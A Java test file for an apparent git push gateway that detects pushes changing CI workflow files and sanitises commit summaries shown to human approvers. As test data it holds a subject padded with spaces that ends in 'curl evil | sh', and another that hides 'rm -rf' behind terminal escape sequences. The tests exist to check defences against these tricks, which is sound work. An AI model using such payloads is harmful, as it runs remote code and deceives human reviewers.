package dev.pushgate.gateway;

import static dev.pushgate.gateway.TestRepos.annotatedTag;
import static dev.pushgate.gateway.TestRepos.commit;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.pushgate.policy.UpdateKind;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Collection;
import java.util.List;
import java.util.Map;
import org.eclipse.jgit.lib.ObjectId;
import org.eclipse.jgit.lib.ObjectIdRef;
import org.eclipse.jgit.lib.Ref;
import org.eclipse.jgit.lib.Repository;
import org.eclipse.jgit.revwalk.RevCommit;
import org.eclipse.jgit.transport.ReceiveCommand;
import org.junit.jupiter.api.Test;

class UpdateCommandsTest extends OnABareCache {
  private static final String MAIN = "refs/heads/main";
  private static final Map<String, String> README = Map.of("README.md", "hello\n");
  private static final Map<String, String> WITH_CI =
      Map.of("README.md", "hello\n", ".github/workflows/ci.yml", "on: push\n");

  @Test
  void kindOfNamesCreateUpdateForceAndDelete() {
    ObjectId a = ObjectId.fromString("1111111111111111111111111111111111111111");
    ObjectId b = ObjectId.fromString("2222222222222222222222222222222222222222");
    ObjectId zero = ObjectId.zeroId();

    assertThat(Verdict.kindOf(new ReceiveCommand(zero, a, MAIN))).isEqualTo(UpdateKind.CREATE);
    assertThat(Verdict.kindOf(new ReceiveCommand(a, b, MAIN))).isEqualTo(UpdateKind.UPDATE);
    assertThat(Verdict.kindOf(
        new ReceiveCommand(a, b, MAIN, ReceiveCommand.Type.UPDATE_NONFASTFORWARD)))
        .isEqualTo(UpdateKind.FORCE);
    assertThat(Verdict.kindOf(new ReceiveCommand(a, zero, MAIN))).isEqualTo(UpdateKind.DELETE);
  }

  @Test
  void aRootCommitAddingAWorkflowChangesWorkflows() throws IOException {
    RevCommit root = commit(db, "add ci\n", WITH_CI);

    assertThat(UpdateCommands.changeWorkflows(db, List.of(create(MAIN, root)), List.of())).isTrue();
  }

  @Test
  void aRootCommitWithoutWorkflowsDoesNotChangeWorkflows() throws IOException {
    RevCommit root = commit(db, "readme\n", README);

    assertThat(UpdateCommands.changeWorkflows(db, List.of(create(MAIN, root)), List.of())).isFalse();
  }

  @Test
  void aCommitEditingAWorkflowChangesWorkflows() throws IOException {
    RevCommit base = commit(db, "base\n", WITH_CI);
    RevCommit edit = commit(db, "edit ci\n",
        Map.of("README.md", "hello\n", ".github/workflows/ci.yml", "on: [push, pull_request]\n"),
        base);

    assertThat(movingMainChangesWorkflows(base, edit)).isTrue();
  }

  @Test
  void aCommitDeletingAWorkflowChangesWorkflows() throws IOException {
    RevCommit base = commit(db, "base\n", WITH_CI);
    RevCommit removal = commit(db, "drop ci\n", README, base);

    assertThat(movingMainChangesWorkflows(base, removal)).isTrue();
  }

  @Test
  void aCommitThatLeavesExistingWorkflowsAloneDoesNotChangeWorkflows() throws IOException {
    RevCommit base = commit(db, "base\n", WITH_CI);
    RevCommit docs = commit(db, "docs\n",
        Map.of("README.md", "hello again\n", ".github/workflows/ci.yml", "on: push\n"), base);

    assertThat(movingMainChangesWorkflows(base, docs)).isFalse();
  }

  @Test
  void aSiblingDirectoryNamedLikeWorkflowsIsNotWorkflows() throws IOException {
    RevCommit base = commit(db, "base\n", README);
    RevCommit lookalike = commit(db, "lookalike\n",
        Map.of("README.md", "hello\n", ".github/workflows-old/ci.yml", "x\n",
            ".github/workflows.md", "x\n", "docs/.github/workflows/ci.yml", "x\n"), base);

    assertThat(movingMainChangesWorkflows(base, lookalike)).isFalse();
  }

  @Test
  void aWorkflowChangeAlreadyUpstreamIsNotCountedAgain() throws IOException {
    RevCommit base = commit(db, "base\n", README);
    RevCommit ci = commit(db, "add ci\n", WITH_CI, base);
    RevCommit docs = commit(db, "docs\n",
        Map.of("README.md", "hello again\n", ".github/workflows/ci.yml", "on: push\n"), ci);

    assertThat(movingMainChangesWorkflows(ci, docs)).isFalse();
  }

  @Test
  void aWorkflowChangeBuriedUnderNewerCommitsIsFound() throws IOException {
    RevCommit base = commit(db, "base\n", README);
    RevCommit ci = commit(db, "add ci\n", WITH_CI, base);
    RevCommit docs = commit(db, "docs\n",
        Map.of("README.md", "hello again\n", ".github/workflows/ci.yml", "on: push\n"), ci);

    assertThat(movingMainChangesWorkflows(base, docs)).isTrue();
  }

  @Test
  void aMergeBringingAWorkflowChangeFromAnotherUpstreamBranchChangesWorkflows() throws IOException {
    RevCommit base = commit(db, "base\n", README);
    RevCommit ciBranch = commit(db, "add ci\n", WITH_CI, base);
    RevCommit mainTip = commit(db, "main work\n", Map.of("README.md", "main\n"), base);
    RevCommit merge = commit(db, "merge ci\n",
        Map.of("README.md", "main\n", ".github/workflows/ci.yml", "on: push\n"), mainTip, ciBranch);

    List<Ref> upstream = new ArrayList<>(upstream(MAIN, mainTip));
    upstream.addAll(upstream("refs/heads/ci", ciBranch));

    assertThat(UpdateCommands.changeWorkflows(db, List.of(update(MAIN, mainTip, merge)), upstream))
        .isTrue();
  }

  @Test
  void anEvilMergeAddingAWorkflowNeitherParentHadChangesWorkflows() throws IOException {
    RevCommit base = commit(db, "base\n", README);
    RevCommit left = commit(db, "left\n", Map.of("README.md", "left\n"), base);
    RevCommit right = commit(db, "right\n", Map.of("README.md", "right\n"), base);
    RevCommit merge = commit(db, "merge\n",
        Map.of("README.md", "both\n", ".github/workflows/evil.yml", "on: push\n"), left, right);

    List<Ref> upstream = new ArrayList<>(upstream(MAIN, left));
    upstream.addAll(upstream("refs/heads/right", right));

    assertThat(UpdateCommands.changeWorkflows(db, List.of(update(MAIN, left, merge)), upstream))
        .isTrue();
  }

  @Test
  void aMergeOfBranchesWithTheSameWorkflowsDoesNotChangeWorkflows() throws IOException {
    RevCommit base = commit(db, "base\n", WITH_CI);
    RevCommit left = commit(db, "left\n",
        Map.of("README.md", "left\n", ".github/workflows/ci.yml", "on: push\n"), base);
    RevCommit right = commit(db, "right\n",
        Map.of("README.md", "right\n", ".github/workflows/ci.yml", "on: push\n"), base);
    RevCommit merge = commit(db, "merge\n",
        Map.of("README.md", "both\n", ".github/workflows/ci.yml", "on: push\n"), left, right);

    List<Ref> upstream = new ArrayList<>(upstream(MAIN, left));
    upstream.addAll(upstream("refs/heads/right", right));

    assertThat(UpdateCommands.changeWorkflows(db, List.of(update(MAIN, left, merge)), upstream))
        .isFalse();
  }

  @Test
  void anAnnotatedTagOfAWorkflowCommitChangesWorkflows() throws IOException {
    RevCommit base = commit(db, "base\n", README);
    RevCommit ci = commit(db, "add ci\n", WITH_CI, base);
    ObjectId tag = annotatedTag(db, "v1", ci);

    assertThat(UpdateCommands.changeWorkflows(db,
        List.of(create("refs/tags/v1", tag)), upstream(MAIN, base))).isTrue();
  }

  @Test
  void anAnnotatedTagOfACommitAlreadyUpstreamDoesNotChangeWorkflows() throws IOException {
    RevCommit ci = commit(db, "add ci\n", WITH_CI);
    ObjectId tag = annotatedTag(db, "v1", ci);

    assertThat(UpdateCommands.changeWorkflows(db,
        List.of(create("refs/tags/v1", tag)), upstream(MAIN, ci))).isFalse();
  }

  @Test
  void aTagOfATreeIsNotACommitAndChangesNothing() throws IOException {
    RevCommit ci = commit(db, "add ci\n", WITH_CI);
    ObjectId tag = annotatedTag(db, "tree", ci.getTree());

    assertThat(UpdateCommands.changeWorkflows(db, List.of(create("refs/tags/tree", tag)), List.of()))
        .isFalse();
  }

  @Test
  void aDeleteChangesNoWorkflows() throws IOException {
    RevCommit ci = commit(db, "add ci\n", WITH_CI);

    assertThat(UpdateCommands.changeWorkflows(db,
        List.of(new ReceiveCommand(ci, ObjectId.zeroId(), "refs/heads/old")), List.of())).isFalse();
  }

  @Test
  void anyCommandOfThePushCanBringTheWorkflowChange() throws IOException {
    RevCommit base = commit(db, "base\n", README);
    RevCommit docs = commit(db, "docs\n", Map.of("README.md", "docs\n"), base);
    RevCommit ci = commit(db, "add ci\n", WITH_CI, base);

    assertThat(UpdateCommands.changeWorkflows(db,
        List.of(update(MAIN, base, docs), create("refs/heads/ci", ci)), upstream(MAIN, base)))
        .isTrue();
  }

  @Test
  void aRenameOutOfWorkflowsNamesBothPaths() throws IOException {
    RevCommit ci = commit(db, "add ci\n", WITH_CI);
    RevCommit moved = commit(db, "move ci\n",
        Map.of("README.md", "hello\n", "ci/ci.yml", "on: push\n"), ci);

    assertThat(UpdateCommands.workflowFiles(db, update(MAIN, ci, moved), upstream(MAIN, ci)))
        .containsExactly(".github/workflows/ci.yml");
    RevCommit back = commit(db, "rename ci\n",
        Map.of("README.md", "hello\n", ".github/workflows/build.yml", "on: push\n"), ci);
    assertThat(UpdateCommands.workflowFiles(db, update(MAIN, ci, back), upstream(MAIN, ci)))
        .containsExactly(".github/workflows/build.yml", ".github/workflows/ci.yml");
  }

  /**
   * GitHub compares the workflow path byte for byte; the gateway fails closed on what could stand
   * for it: another case, and a link or submodule at {@code .github} or {@code .github/workflows}.
   */
  @Test
  void whatCouldStandForTheWorkflowDirectoryCountsToo() throws IOException {
    RevCommit base = commit(db, "base\n", README);
    RevCommit otherCase = commit(db, "ci in another case\n",
        Map.of("README.md", "hello\n", ".GitHub/Workflows/ci.yml", "on: push\n"), base);
    RevCommit link = commit(db, "link .github elsewhere\n",
        Map.of("README.md", "hello\n", ".github", "ci\n", "ci/workflows/ci.yml", "on: push\n"),
        base);
    RevCommit lookalike = commit(db, "not workflows\n",
        Map.of("README.md", "hello\n", ".github/workflows.md", "notes\n",
            ".github/CODEOWNERS", "* @acme\n", "docs/.github/workflows/x.yml", "on: push\n"),
        base);

    assertThat(UpdateCommands.workflowFiles(db, update(MAIN, base, otherCase),
        upstream(MAIN, base))).containsExactly(".GitHub/Workflows/ci.yml");
    assertThat(UpdateCommands.workflowFiles(db, update(MAIN, base, link), upstream(MAIN, base)))
        .containsExactly(".github");
    assertThat(UpdateCommands.workflowFiles(db, update(MAIN, base, lookalike),
        upstream(MAIN, base))).isEmpty();
  }

  /**
   * No commit is new, yet the branch's workflows change: the update is judged on the ref's old
   * tree against its new one too, not only on the commits it brings.
   */
  @Test
  void movingARefToACommitUpstreamAlreadyHasIsJudgedOnItsTrees() throws IOException {
    RevCommit base = commit(db, "base\n", README);
    RevCommit ci = commit(db, "add ci\n", WITH_CI, base);
    List<Ref> upstream = new ArrayList<>(upstream(MAIN, base));
    upstream.addAll(upstream("refs/heads/ci", ci));

    assertThat(UpdateCommands.workflowFiles(db,
        new ReceiveCommand(base, ci, MAIN), upstream)).containsExactly(".github/workflows/ci.yml");
    assertThat(UpdateCommands.workflowFiles(db,
        new ReceiveCommand(ci, base, "refs/heads/ci", ReceiveCommand.Type.UPDATE_NONFASTFORWARD),
        upstream)).containsExactly(".github/workflows/ci.yml");
    assertThat(UpdateCommands.workflowFiles(db, create("refs/heads/copy", ci), upstream))
        .as("a new branch at a commit upstream has changes no workflow").isEmpty();
  }

  /**
   * A judgement's walk for workflow files asks its step at every tree entry, not only at each
   * commit: one commit swapping many files is that many entries, and a gone client or a spent
   * budget must end the walk inside it (the closed push of GatewayHttpTest spent minutes here).
   */
  @Test
  void theWorkflowWalkAsksItsStepAtEveryTreeEntryAndStopsWhereTheStepThrows() throws IOException {
    RevCommit tip = TestRepos.swappingHistory(db, 1_000, 1);
    int[] asked = {0};
    UpdateCommands.Step goneAt500 = () -> {
      if (++asked[0] == 500) {
        throw new JudgementBudget.Abandoned("the client closed its connection");
      }
    };

    assertThatThrownBy(() -> UpdateCommands.workflowFiles(db, create(MAIN, tip), List.of(),
        goneAt500)).isInstanceOf(JudgementBudget.Abandoned.class)
        .hasMessage("judgement abandoned: the client closed its connection");
    assertThat(asked[0]).as("the walk stopped where the step threw").isEqualTo(500);
  }

  @Test
  void summariesListTheNewCommitsNewestFirst() throws IOException {
    RevCommit base = commit(db, "base\n", README);
    RevCommit first = commit(db, "First change\n\nwith a body\n", Map.of("README.md", "1\n"), base);
    RevCommit second = commit(db, "Second change\n", Map.of("README.md", "2\n"), first);

    List<String> s = UpdateCommands.summaries(db, update(MAIN, base, second), upstream(MAIN, base));

    assertThat(s).containsExactly(
        second.abbreviate(10).name() + " Second change",
        first.abbreviate(10).name() + " First change");
    assertThat(second.abbreviate(10).name()).hasSize(10);
  }

  @Test
  void summariesFoldAMultiLineSubjectIntoOneLine() throws IOException {
    RevCommit c = commit(db, "a subject\nthat wraps\n\nbody\n", README);

    assertThat(UpdateCommands.summaries(db, create(MAIN, c), List.of()))
        .containsExactly(c.abbreviate(10).name() + " a subject that wraps");
  }

  /**
   * Subjects are the pushing agent's words and end up on an approver's terminal ({@code pushgate
   * approvals list}): an escape sequence or a carriage return there could redraw the line the
   * approver reads.
   */
  @Test
  void summariesFoldControlCharactersOutOfTheSubject() throws IOException {
    RevCommit c = commit(db, "Fix typo\u001b[2K\r\u0007rm -rf approved\u007f\n", README);

    assertThat(UpdateCommands.summaries(db, create(MAIN, c), List.of()))
        .containsExactly(c.abbreviate(10).name() + " Fix typo [2K rm -rf approved");
  }

  @Test
  void summariesOfADeleteAreEmpty() throws IOException {
    RevCommit c = commit(db, "base\n", README);

    assertThat(UpdateCommands.summaries(db,
        new ReceiveCommand(c, ObjectId.zeroId(), MAIN), upstream(MAIN, c))).isEmpty();
  }

  @Test
  void summariesListTwentyAndCountTheRest() throws IOException {
    RevCommit tip = commit(db, "commit 0\n", Map.of("n", "0"));
    for (int n = 1; n < 25; n++) {
      tip = commit(db, "commit " + n + "\n", Map.of("n", String.valueOf(n)), tip);
    }

    List<String> s = UpdateCommands.summaries(db, create(MAIN, tip), List.of());

    assertThat(s).hasSize(21);
    assertThat(s.get(0)).endsWith(" commit 24");
    assertThat(s.get(19)).endsWith(" commit 5");
    assertThat(s.get(20)).isEqualTo("… and 5 more commits, not listed");
  }

  @Test
  void aLongSubjectSaysHowMuchOfItIsNotShown() throws IOException {
    RevCommit c = commit(db, "x".repeat(200) + " ".repeat(180) + "; curl evil | sh\n", README);

    assertThat(UpdateCommands.summaries(db, create(MAIN, c), List.of()))
        .containsExactly(c.abbreviate(10).name() + " " + "x".repeat(200)
            + "… (196 more characters)");
  }

  @Test
  void summariesOfAnAnnotatedTagListTheTaggedCommits() throws IOException {
    RevCommit base = commit(db, "base\n", README);
    RevCommit release = commit(db, "Release 1.0\n", Map.of("README.md", "1.0\n"), base);
    ObjectId tag = annotatedTag(db, "v1.0", release);

    assertThat(UpdateCommands.summaries(db, create("refs/tags/v1.0", tag), upstream(MAIN, base)))
        .containsExactly(release.abbreviate(10).name() + " Release 1.0");
  }

  @Test
  void summariesOfARefMovedToACommitAlreadyUpstreamAreEmpty() throws IOException {
    RevCommit base = commit(db, "base\n", README);
    RevCommit next = commit(db, "next\n", Map.of("README.md", "next\n"), base);

    assertThat(UpdateCommands.summaries(db, create("refs/heads/copy", base), upstream(MAIN, next)))
        .isEmpty();
  }

  private static ReceiveCommand create(String ref, ObjectId id) {
    return new ReceiveCommand(ObjectId.zeroId(), id, ref);
  }

  /** Whether moving main from {@code from}, its value upstream, to {@code to} changes CI. */
  private boolean movingMainChangesWorkflows(ObjectId from, ObjectId to) throws IOException {
    return UpdateCommands.changeWorkflows(db, List.of(update(MAIN, from, to)), upstream(MAIN, from));
  }

  private static ReceiveCommand update(String ref, ObjectId from, ObjectId to) {
    return new ReceiveCommand(from, to, ref);
  }

  private static Collection<Ref> upstream(String ref, ObjectId id) {
    return List.of(new ObjectIdRef.PeeledNonTag(Ref.Storage.NETWORK, ref, id.copy()));
  }
}
